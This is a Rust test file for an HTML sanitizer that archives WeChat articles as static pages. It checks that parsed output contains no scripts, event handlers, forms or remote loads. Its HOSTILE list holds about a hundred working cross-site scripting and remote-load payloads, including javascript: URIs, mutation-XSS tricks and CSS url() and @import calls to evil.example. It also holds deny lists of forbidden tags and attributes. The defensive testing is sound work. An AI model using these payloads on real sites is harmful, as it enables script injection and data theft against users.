//! What pages made of articles promise, checked by a reader of HTML that we did
//! not write: html5ever, which builds the tree that browsers build.

use std::collections::BTreeMap;

use html5ever::tendril::TendrilSink;
use html5ever::tree_builder::TreeBuilderOpts;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use proptest::prelude::*;

use super::*;
use crate::model::{AssetHosts, AssetKey, FileKind, GapId, GapReason, Section};

/// A library that holds every picture whose id begins with `A`, knows a gap
/// for those with `B`, and nothing else.
#[derive(Default)]
struct Shelf(BTreeMap<String, Resolved>);

impl Lookup for Shelf {
    fn asset(&self, key: &AssetKey) -> Resolved {
        if let Some(known) = self.0.get(key.as_str()) {
            return known.clone();
        }
        match key
            .as_str()
            .rsplit('/')
            .next()
            .and_then(|id| id.chars().next())
        {
            Some('A') => Resolved::Local {
                href: format!("../../../blobs/{}.png", key.as_str().replace('/', "_")),
                kind: FileKind::Png,
            },
            Some('B') => Resolved::Missing(Missing {
                gap_id: GapId::of("asset", key.as_str()),
                reason: Some(GapReason::Http404),
            }),
            _ => Resolved::Unknown,
        }
    }

    fn article(&self, link: &ArticleLink) -> Option<String> {
        (link.mid == "1").then(|| "../../abc/01/index.html".to_owned())
    }
}

fn page_of(content: &str, lookup: &dyn Lookup) -> String {
    let view = ArticleView {
        title: "标题 </title><script>alert(1)</script>",
        author: Some("作者 <b>"),
        time: Some(1_684_289_700),
        source: Section::Draft,
        cover: None,
        content,
        pictures: &[],
        url: Some("http://mp.weixin.qq.com/s?__biz=M&mid=1&idx=1#rd"),
        content_source_url: Some("javascript:alert(1)"),
        presence: Presence::Listed,
        index_href: "../../../index.html",
        hosts: &AssetHosts::default(),
    };
    article_page(&view, lookup)
}

fn tree(html: &str, scripting_enabled: bool) -> RcDom {
    let options = ParseOpts {
        tree_builder: TreeBuilderOpts {
            scripting_enabled,
            ..TreeBuilderOpts::default()
        },
        ..ParseOpts::default()
    };
    parse_document(RcDom::default(), options).one(html)
}

/// An element, flat: name, attributes, names of its ancestors.
struct Node {
    name: String,
    attributes: Vec<(String, String)>,
    above: Vec<String>,
    text: String,
}

impl Node {
    fn get(&self, name: &str) -> Option<&str> {
        self.attributes
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }
}

fn elements(dom: &RcDom) -> Vec<Node> {
    fn walk(node: &Handle, above: &[String], found: &mut Vec<Node>) {
        let mut above = above.to_vec();
        if let NodeData::Element {
            name,
            attrs,
            template_contents,
            ..
        } = &node.data
        {
            let attributes = attrs.borrow();
            let attributes = attributes.iter().map(|attribute| {
                let prefix = attribute.name.prefix.as_ref();
                let prefix = prefix.map_or_else(String::new, |prefix| format!("{prefix}:"));
                (
                    format!("{prefix}{}", attribute.name.local),
                    attribute.value.to_string(),
                )
            });
            let children = node.children.borrow();
            let text = children.iter().filter_map(|child| match &child.data {
                NodeData::Text { contents } => Some(contents.borrow().to_string()),
                _ => None,
            });
            found.push(Node {
                name: name.local.to_string(),
                attributes: attributes.collect(),
                above: above.clone(),
                text: text.collect(),
            });
            above.push(name.local.to_string());
            if let Some(contents) = template_contents.borrow().as_ref() {
                walk(contents, &above, found);
            }
        }
        for child in node.children.borrow().iter() {
            walk(child, &above, found);
        }
    }
    let mut found = Vec::new();
    walk(&dom.document, &[], &mut found);
    found
}

/// Text that a person sees, without what pages leave out or add.
fn visible_text(dom: &RcDom) -> String {
    fn walk(node: &Handle, text: &mut String) {
        match &node.data {
            NodeData::Text { contents } => text.push_str(&contents.borrow()),
            NodeData::Element { name, attrs, .. } => {
                let ours = attrs.borrow().iter().any(|attribute| {
                    &*attribute.name.local == "class" && attribute.value.starts_with("wxb-")
                });
                let hidden = matches!(
                    &*name.local,
                    "script"
                        | "style"
                        | "title"
                        | "iframe"
                        | "noscript"
                        | "noembed"
                        | "noframes"
                        | "template"
                        | "wxb-head"
                        | "wxb-foot"
                        | "wxb-notice"
                );
                if ours || hidden {
                    return;
                }
            }
            _ => {}
        }
        for child in node.children.borrow().iter() {
            walk(child, text);
        }
    }
    let mut text = String::new();
    walk(&dom.document, &mut text);
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Holds a page to its promise: nothing runs, nothing loads from afar, and the
/// content stays between our head and foot.
fn assert_harmless(page: &str, content: &str) {
    for scripting in [true, false] {
        let nodes = elements(&tree(page, scripting));
        for node in &nodes {
            let forbidden = [
                "script", "iframe", "object", "embed", "applet", "base", "form", "input", "button",
                "select", "textarea", "link", "noscript", "template", "frame", "frameset", "track",
            ];
            assert!(
                !forbidden.contains(&&*node.name),
                "<{}> in {content}",
                node.name
            );
            for (name, value) in &node.attributes {
                assert!(
                    !name.starts_with("on") && name != "srcdoc",
                    "{name} in {content}"
                );
                let is_text = ["alt", "title", "textvalue", "aria-label"].contains(&&**name);
                let is_link = node.name == "a" && name == "href";
                let is_policy = node.name == "meta";
                let flat: String = value.to_lowercase().split_whitespace().collect();
                if is_link {
                    let ways = ["http://", "https://", "mailto:", "tel:", "#", "../"];
                    assert!(
                        ways.iter().any(|way| flat.starts_with(way)),
                        "{value} in {content}"
                    );
                } else if !is_text && !is_policy {
                    assert!(!flat.contains("evil"), "{name}={value} in {content}");
                    assert!(
                        !flat.contains("javascript:") && !flat.contains("vbscript:"),
                        "{name}={value} in {content}"
                    );
                    assert!(!flat.contains("//"), "{name}={value} in {content}");
                }
            }
            if node.name == "style" {
                let flat: String = node.text.replace(['"', '\'', '\\'], "");
                assert!(
                    !flat.contains("url(//") && !flat.contains("url(http"),
                    "{content}"
                );
                assert!(
                    !flat.contains("@import") && !flat.contains("image-set(/"),
                    "{content}"
                );
                assert!(node.above.ends_with(&["head".to_owned()]), "{content}");
            }
        }
        let metas = nodes.iter().filter(|node| node.name == "meta").count();
        assert_eq!(metas, 5, "{content}");
        for ours in ["wxb-head", "wxb-body", "wxb-foot"] {
            let above: Vec<_> = nodes.iter().filter(|node| node.name == ours).collect();
            assert_eq!(above.len(), 1, "{ours} in {content}");
            assert_eq!(
                above[0].above,
                ["html", "body", "wxb-page"],
                "{ours} in {content}"
            );
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >text",
    "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' onerror=\"alert(2)\" OnError=alert(3)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\u{c}onerror=alert(1)>",
    "<img \"onerror=alert(1) src=x>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img =onerror=alert(1) src=x>",
    "<img src=//evil.example/1 src=https://mmbiz.qpic.cn/mmbiz/A/0>",
    "<img src='https://evil.example/x.png' srcset='https://evil.example/y 2x' lowsrc=//evil.example>",
    "<img data-src='https://evil.example/x.png' crossorigin usemap=#m>",
    "<image src=//evil.example/x onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScR\nipt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='vbscript:x' href='data:text/html,<script>1</script>'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href='//evil.example/ok' ping='//evil.example/p' target=_top onclick=x>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a></svg>",
    "<svg><a><animate attributeName='xlink:href' to='&#106;avascript:alert(1)'/></a></svg>",
    "<svg><use href='//evil.example/x.svg#y'/><use xlink:href='data:image/svg+xml,x#y'/></svg>",
    "<svg><image href='//evil.example/x'/><image xlink:href='https://evil.example/y'/></svg>",
    "<svg><feImage href='https://evil.example/x'/><rect fill='url(https://evil.example/#x)'/></svg>",
    "<svg><foreignObject><iframe src='//evil.example'></iframe><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background:u\\72l(\"https://evil.example/x\")'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example)'>x",
    "<p style='background:image-set(\"//evil.example/x\" 1x)'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';@import url(//evil.example/y);p{background:url(//evil.example)}</style>",
    "<style>p{background:url(\"//evil.example</style><img src=x onerror=alert(1)>",
    "<style>/*</style><style>*/p{background:url(//evil.example)}</style>",
    "<style><!-- </style><script>alert(1)</script> --></style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<iframe srcdoc='<script>alert(1)</script>' src='//evil.example'></iframe>",
    "<iframe src=\"https://v.qq.com/x?vid=a&quot;><script>alert(1)</script>\">",
    "<object data='//evil.example/x.swf'><param name=movie value='//evil.example'>fallback</object>",
    "<embed src='//evil.example/x.swf'><applet code=x archive='//evil.example/x.jar'>y</applet>",
    "<form action='//evil.example'><input formaction=//evil.example autofocus onfocus=alert(1)><button>x",
    "<video src='//evil.example/x.mp4' poster='//evil.example/x.png' autoplay onplay=alert(1)></video>",
    "<audio><source src='//evil.example/x.mp3' onerror=alert(1)><track src='//evil.example/x'></audio>",
    "<picture><source srcset='//evil.example/x'><img src='//evil.example/y'></picture>",
    "<body onload=alert(1) background='//evil.example/x'><html manifest='//evil.example/x'>",
    "<table background='//evil.example/x'><td background=//evil.example/y>x</table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><img src='//evil.example/x' onerror=alert(1)></noscript>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img onerror=x>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- <!-- --><script>alert(1)</script>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]><p>x",
    "<![endif]--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "</p x=\"><img src=x onerror=alert(1)>\">",
    "</style x='</style><img src=x onerror=alert(1)>'>",
    "<p title=\"<script>alert(1)</script>\">x</p>",
    "<p title='--><script>alert(1)</script>'>x</p>",
    "<p id='\"><script>alert(1)</script>'>x</p>",
    "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>",
    "<textarea></title></textarea><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script></plaintext><img onerror=x>",
    "<select><xmp><script>alert(1)</script></select>",
    "<select><template><style></select><img src=x onerror=alert(1)></style>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset><noframes><p>x",
    "<table><tr><td><script>alert(1)</script><svg><td><img src=x onerror=alert(1)>",
    "<b><i><u></b></wxb-body></wxb-page></body></html><script>alert(1)</script>",
    "</div></section></wxb-foot><p>x<div>y</p></div></div><a><b><svg><g>",
    "<div><p><span><a><b><svg><math><table><ul><li>",
    "<scr\0ipt>alert(1)</scr\0ipt><scr<script>ipt>alert(1)</script>",
    "<p onmouseover\0=alert(1) \0onclick=x>x</p>",
    "<x onclick=alert(1) style='position:fixed'><o:p onx=1>x</o:p><x\"y onclick=z>",
    "<img src=x onerror=alert(1)",
    "text <img src=x onerror=\"alert(1)",
    "text <!-- open <script>alert(1)</script>",
    "text <",
    "text </",
    "text <script>alert(1)",
    "<mp-common-profile data-headimg='javascript:alert(1)' data-nickname='<script>x</script>' onclick=x>",
    "<mpvoice voice_encode_fileid='\"><script>alert(1)</script>' name='&lt;img src=x onerror=x&gt;'>",
    "<iframe data-mpvid='\"><img src=x onerror=alert(1)>' data-cover='http%3A%2F%2Fevil.example%2Fx'>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<p data-x='https://evil.example' data-y='http%3A%2F%2Fevil.example' data-z='/\\evil.example'>x",
    "<link rel=import href=//evil.example><portal src=//evil.example></portal><fencedframe src=//evil.example>",
];

#[test]
fn nothing_in_a_hostile_article_runs_or_loads_from_afar() {
    for content in HOSTILE {
        assert_harmless(&page_of(content, &Shelf::default()), content);
        // In every state that an open element or a drawing can leave behind.
        for before in [
            "<svg>",
            "<math><mi>",
            "<table><tr>",
            "<select>",
            "<p><b>",
            "<noscript>",
        ] {
            let content = format!("{before}{content}");
            assert_harmless(&page_of(&content, &Shelf::default()), &content);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    /// Pieces of the hostile articles and of markup, in any order.
    #[test]
    fn no_mixture_of_hostile_pieces_runs_or_loads_from_afar(
        pieces in prop::collection::vec((0..HOSTILE.len() * 3, 0..100_usize, 0..100_usize), 1..8)
    ) {
        let small = [
            "<", ">", "\"", "'", "-->", "<!--", "</style>", "<style>", "<svg>", "</svg>", "<math>",
            "<mtext>", "<title>", "</title>", "<textarea>", "<noscript>", "</noscript>", "<table>",
            "<td>", "<p>", "</p>", "<b>", "</b>", "<select>", "<option>", "<template>", "<xmp>",
            "]]>", "<![CDATA[", "<foreignObject>", "<desc>", "<img title=\"", "<br/>", "=", "/",
            "onerror=alert(1)", " ", "\0", "&lt;", "text", "<a id=", "</div>", "<font color=x>",
        ];
        let content: String = pieces
            .iter()
            .map(|(which, from, to)| match HOSTILE.get(*which) {
                Some(piece) => {
                    let chars: Vec<char> = piece.chars().collect();
                    let from = from * chars.len() / 100;
                    let to = (to * chars.len() / 100).max(from);
                    chars[from..to].iter().collect()
                }
                None => small[which % small.len()].to_owned(),
            })
            .collect();
        assert_harmless(&page_of(&content, &Shelf::default()), &content);
    }
}

/// An article as WeChat serves it: well formed, made by an editor.
fn article() -> impl Strategy<Value = String> {
    let text = prop::sample::select(vec![
        "文字",
        " a &amp; b ",
        "1 &lt; 2",
        "&nbsp;",
        "&#x1F389;",
        "«&quot;»",
        "a > b",
        "\n",
    ]);
    let leaf = prop_oneof![
        4 => text.prop_map(str::to_owned),
        1 => Just("<br  />".to_owned()),
        1 => Just("<img class=\"rich_pages\" data-src=\"https://mmbiz.qpic.cn/mmbiz_png/A1/640?wx_fmt=png&amp;from=appmsg\" data-w=\"9\"  />".to_owned()),
        1 => Just("<img data-src=\"https://mmbiz.qpic.cn/mmbiz_png/B1/640\" />".to_owned()),
        1 => Just("<svg viewbox=\"0 0 1 1\" style=\"float:left\"><g><text>画</text><path d=\"M0 0\"/></g></svg>".to_owned()),
        1 => Just("<mp-common-profile data-nickname=\"名\"></mp-common-profile>".to_owned()),
        1 => Just("<script>bad()</script>".to_owned()),
    ];
    leaf.prop_recursive(5, 40, 5, |inner| {
        let tags = [
            "section",
            "p",
            "span",
            "strong",
            "em",
            "div",
            "ul",
            "li",
            "blockquote",
            "table",
            "td",
            "h2",
            "mp-style-type",
            "a",
            "ruby",
            "svg><foreignObject",
        ];
        (
            prop::sample::select(tags.to_vec()),
            prop::collection::vec(inner, 0..5),
        )
            .prop_map(|(tag, inside)| {
                let style = "style=\"color: rgb(1, 2, 3);font-family: &quot;PingFang SC&quot;;\"";
                let (open, close) = match tag.split_once("><") {
                    Some((outer, inner)) => (tag, format!("{inner}></{outer}")),
                    None => (tag, tag.to_owned()),
                };
                format!("<{open} {style}>{}</{close}>", inside.concat())
            })
    })
}

/// The tree of elements as `(name (…))`, without what pages leave out or add.
fn shape(html: &str) -> String {
    fn walk(node: &Handle, out: &mut String) {
        let mut close = "";
        if let NodeData::Element { name, attrs, .. } = &node.data {
            let attributes = attrs.borrow();
            let get = |wanted: &str| {
                let found = attributes.iter().find(|a| &*a.name.local == wanted);
                found.map_or("", |a| &*a.value)
            };
            if get("class").starts_with("wxb-")
                || matches!(
                    &*name.local,
                    "script" | "img" | "head" | "wxb-head" | "wxb-foot"
                )
            {
                return;
            }
            if !name.local.starts_with("wxb-") {
                out.push_str(&format!("({} {}", name.local, get("style")));
                close = ")";
            }
        }
        for child in node.children.borrow().iter() {
            walk(child, out);
        }
        out.push_str(close);
    }
    let mut out = String::new();
    walk(&tree(html, true).document, &mut out);
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn text_and_structure_of_an_article_are_kept(content in article()) {
        let page = page_of(&content, &Shelf::default());
        assert_harmless(&page, &content);
        let document = format!("<!DOCTYPE html><html><head></head><body>{content}</body></html>");
        prop_assert_eq!(visible_text(&tree(&page, true)), visible_text(&tree(&document, true)));
        prop_assert_eq!(shape(&page), shape(&document));
    }
}

#[test]
fn the_tags_of_real_articles_lead_nowhere_but_by_links() {
    let tags =
        include_str!("../../tests/data/wechat/article_tags-wechat_article_exporter_samples.html");
    struct All;
    impl Lookup for All {
        fn asset(&self, key: &AssetKey) -> Resolved {
            Resolved::Local {
                href: format!("../../../blobs/{}", key.as_str().replace('/', "_")),
                kind: FileKind::Png,
            }
        }
    }
    let page = page_of(tags, &All);
    assert_harmless(&page, "the tags of real articles");
    let nodes = elements(&tree(&page, true));
    let written = references(tags, &AssetHosts::default());
    for asset in &written.assets {
        let local = asset.address.key.as_str().replace('/', "_");
        // The uncropped twin of a picture shares its key or is not shown.
        let is_shown = tags.lines().any(|line| {
            line.replace("&amp;", "&").contains(&asset.url)
                && !line
                    .replace("&amp;", "&")
                    .contains(&format!("data-croporisrc=\"{}", asset.url))
        });
        assert!(!is_shown || page.contains(&local), "{}", asset.url);
    }
    let pictures = nodes
        .iter()
        .filter(|node| node.name == "img" && node.get("src").is_some());
    assert!(pictures.count() > 37);
}

#[test]
fn what_is_missing_is_a_visible_box_with_its_reason_and_gap() {
    let gap = GapId::of("asset", "mmbiz_png/B1");
    let b1 = "https://mmbiz.qpic.cn/mmbiz_png/B1/640";
    for content in [
        format!("<img data-src=\"{b1}\">"),
        format!("<img data-src=\"{b1}\" src=\"data:image/gif;base64,AA\">"),
        format!("<img data-src=\"{b1}\" src=\"https://mmbiz.qpic.cn/mmbiz_png/A1/0\">"),
        format!("<p style=\"background-image:url(&quot;{b1}&quot;)\">x</p>"),
        format!("<svg><image href=\"{b1}\"/></svg>"),
        format!("<svg><g style=\"background:url({b1})\"></g></svg>"),
        format!("<style>p{{background:url({b1})}}</style>"),
        format!("<mp-common-sticker data-emoji_url=\"{b1}\"></mp-common-sticker>"),
        format!("<video src=\"{b1}\"></video>"),
        format!("<video><source src=\"{b1}\"></video>"),
    ] {
        let page = page_of(&content, &Shelf::default());
        let nodes = elements(&tree(&page, true));
        let boxes: Vec<&Node> = nodes
            .iter()
            .filter(|node| node.get("class") == Some("wxb-missing"))
            .collect();
        assert_eq!(boxes.len(), 1, "{content}");
        assert!(
            boxes[0].text.contains("微信服务器上已不存在（http_404）"),
            "{content}"
        );
        assert!(
            !boxes[0]
                .above
                .iter()
                .any(|name| name == "svg" || name == "video"),
            "{content}"
        );
        assert!(page.contains(&format!("<code>{gap}</code>")), "{content}");
    }
}

#[test]
fn sounds_and_videos_play_from_the_archive_and_cards_say_what_they_were() {
    let mut shelf = Shelf::default();
    let mut hold = |key: &str, kind: FileKind| {
        let href = format!("../x.{}", kind.extension());
        shelf
            .0
            .insert(key.to_owned(), Resolved::Local { href, kind });
    };
    hold("res.wx.qq.com/voice/getvoice?mediaid=Mz==", FileKind::Mp3);
    hold("res.wx.qq.com/voice/getvoice?mediaid=Am==", FileKind::Amr);
    hold("mpvideo.qpic.cn/x.mp4", FileKind::Mp4);
    let table = [
        (
            "<mpvoice voice_encode_fileid=\"Mz%3D%3D\" name=\"早安\"></mpvoice>",
            "<audio controls preload=\"none\" src=\"../x.mp3\"></audio>",
        ),
        (
            "<mpvoice voice_encode_fileid=\"Am==\"></mpvoice>",
            "<a href=\"../x.amr\">打开文件（amr）</a>",
        ),
        (
            "<video src=\"https://mpvideo.qpic.cn/x.mp4\" autoplay></video>",
            "<video controls=\"\" preload=\"metadata\" src=\"../x.mp4\"></video>",
        ),
        (
            "<iframe class=video_iframe data-src=\"https://v.qq.com/iframe/preview.html?vid=x01\"></iframe>",
            "<b>[视频]</b> <a href=\"https://v.qq.com/txp/iframe/player.html?vid=x01\"",
        ),
        (
            "<mp-miniprogram data-miniprogram-title=\"查成绩\"></mp-miniprogram>",
            "<b>[小程序]</b> <bdi>查成绩</bdi>",
        ),
        (
            "<qqmusic music_name=\"晴天\">",
            "<b>[音乐]</b> <bdi>晴天</bdi>",
        ),
        (
            "<mpproduct data-name=\"茶\">",
            "<b>[商品]</b> <bdi>茶</bdi>",
        ),
        (
            "<iframe class=\"js_editor_vote_card\"></iframe>",
            "<b>[投票]</b>",
        ),
    ];
    for (content, expected) in table {
        let page = page_of(content, &shelf);
        assert!(page.contains(expected), "{content}: {page}");
    }
}

#[test]
fn a_link_leads_to_the_archive_where_it_can_and_out_of_it_only_by_a_click() {
    let table = [
        (
            "https://mp.weixin.qq.com/s?__biz=M&amp;mid=1&amp;idx=1&amp;sn=x#rd",
            "<a href=\"../../abc/01/index.html\">",
        ),
        (
            "https://mp.weixin.qq.com/s?__biz=M&amp;mid=2&amp;idx=1",
            "<a href=\"https://mp.weixin.qq.com/s?__biz=M&amp;mid=2&amp;idx=1\" target=\"_blank\" rel=\"noreferrer noopener\">",
        ),
        ("#part", "<a href=\"#part\">"),
        (
            "https://mmbiz.qpic.cn/mmbiz_png/A1/640",
            "<a href=\"../../../blobs/mmbiz_png_A1.png\">",
        ),
        ("javascript:;", "<a>"),
    ];
    for (href, expected) in table {
        let page = page_of(&format!("<a href=\"{href}\">x</a>"), &Shelf::default());
        assert!(
            page.contains(&format!("<wxb-body>{expected}x</a></wxb-body>")),
            "{href}: {page}"
        );
    }
}

#[test]
fn a_whole_page_as_content_shows_its_body_and_nothing_hidden() {
    let content = "<!DOCTYPE html><html><head><meta charset=gbk><title>旧标题</title><style>p{color:red}</style></head>\
         <body class=x><div id=\"js_content\" style=\"visibility: hidden; opacity: 0; color: blue\"><p>正文</p></div></body></html>";
    let page = page_of(content, &Shelf::default());
    assert!(
        page.contains(
            "<wxb-body><div id=\"js_content\" style=\" color: blue\"><p>正文</p></div></wxb-body>"
        ),
        "{page}"
    );
    assert!(page.contains("<style>\np{color:red}\n</style>"));
    assert!(!page.contains("旧标题"));
}

#[test]
fn content_that_cannot_be_read_is_shown_as_text() {
    let content = format!("{}<script>x</script>", "<b>".repeat(5000));
    let page = page_of(&content, &Shelf::default());
    assert_harmless(&page, "nesting without end");
    assert!(page.contains("正文的排版无法解析"));
    assert!(page.contains("&lt;script&gt;x&lt;/script&gt;"));
}
